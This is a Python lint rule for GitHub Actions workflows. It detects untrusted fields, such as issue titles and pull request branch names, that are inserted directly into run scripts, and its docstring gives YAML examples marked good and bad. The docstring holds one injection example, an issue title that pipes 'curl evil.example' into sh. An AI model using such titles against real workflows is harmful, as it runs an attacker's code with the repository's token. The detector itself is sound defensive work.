import re
from collections.abc import Iterator

from roadworthy import Finding, Severity, Workflow, rule
from roadworthy_rules.pipeline._outsiders import EXPOSED, is_own_change
from roadworthy_rules.pipeline._shared import may_only_read

#: What people outside write, as GitHub's "Script injections" lists it.
_UNTRUSTED = re.compile(
    r"\$\{\{[^{}]*?\b(github\.head_ref"
    r"|github\.event\.(?:issue|pull_request|comment|discussion)\.(?:title|body)"
    r"|github\.event\.pull_request\.head\.(?:ref|label)|github\.event\.pull_request\.head\.repo\.default_branch"
    r"|github\.event\.workflow_run\.head_branch)\b"
)
#: The events that fill such a field; what a push fills comes from members.
_FILLED = {
    "github.head_ref": "pull_request_target",
    "github.event.issue": "issues issue_comment",
    "github.event.pull_request": "pull_request_target",
    "github.event.comment": "issue_comment discussion_comment",
    "github.event.discussion": "discussion discussion_comment",
    "github.event.workflow_run": "workflow_run",
}
_SIZE = 20_000


@rule(Severity.ERROR, since="0.1", security=9.3, cwe=78)
def untrusted_input_in_script(workflow: Workflow) -> Iterator[Finding]:
    """A script contains text that outsiders control.

    GitHub replaces `${{ }}` before the shell reads the script, so an issue titled `"; curl evil.example | sh`
    runs as a command with the workflow's token. Pass the value through `env:` and use the variable, quoted.

    The rule reports fields that outsiders control, if an event fills them that outsiders can start and that
    has secrets. It ignores commit hashes, numbers, `matrix` and outcomes, and jobs and steps that only run
    for changes of the repository itself or for its members, and jobs without secrets whose `permissions` only
    read.

    ```yaml good
    on: {workflow_run: {workflows: [test], types: [completed]}}
    jobs:
      release:
        if: github.event.workflow_run.event == 'push'
        steps:
          - run: echo "${{ github.event.workflow_run.head_branch }}"
    ```
    ```yaml bad
    on: {workflow_run: {workflows: [test], types: [completed]}}
    jobs:
      release:
        steps:
          - run: echo "${{ github.event.workflow_run.head_branch }}"
    ```

    ```yaml good
    on: [pull_request, issue_comment]
    jobs:
      test:
        steps:
          - run: echo "${{ github.head_ref }}"
      answer:
        if: github.event.comment.author_association == 'OWNER'
        steps:
          - run: echo "${{ github.event.comment.body }}"
    ```

    ```yaml bad
    on: issues
    jobs:
      greet:
        steps:
          - run: echo "${{ github.event.issue.title }}"
    ```
    ```yaml good
    on: issues
    permissions: {contents: read}
    jobs:
      greet:
        steps:
          - run: echo "${{ github.event.issue.title }}"
    ```
    ```yaml good
    on: issues
    jobs:
      greet:
        steps:
          - run: echo "$TITLE" "${{ github.sha }}" "${{ github.event.issue.number }}"
            env:
              TITLE: ${{ github.event.issue.title }}
    ```
    """
    exposed = workflow.triggers & EXPOSED
    if not exposed:
        return
    jobs = {name: job for _, name, job in workflow.jobs()}
    for at, step in workflow.steps():
        job = jobs.get(str(at.route[1]))
        if job is not None and may_only_read(workflow, job):
            continue
        given = step.get("with")
        uses = str(step.get("uses"))
        texts = [(at / "run", step.get("run"))]
        if uses.startswith("actions/github-script") and isinstance(given, dict):
            texts.append((at / "with" / "script", given.get("script")))
        for place, text in texts:
            names = _UNTRUSTED.findall(text[:_SIZE]) if isinstance(text, str) else ()
            name = next((name for name in names if not exposed.isdisjoint(_events(name))), None)
            if name is not None and not is_own_change(workflow, at):
                yield Finding(f"`{name}` is inserted into a script", place)


def _events(name: str) -> list[str]:
    """Return the events that fill a field."""
    return _FILLED[".".join(name.split(".")[:3])].split()
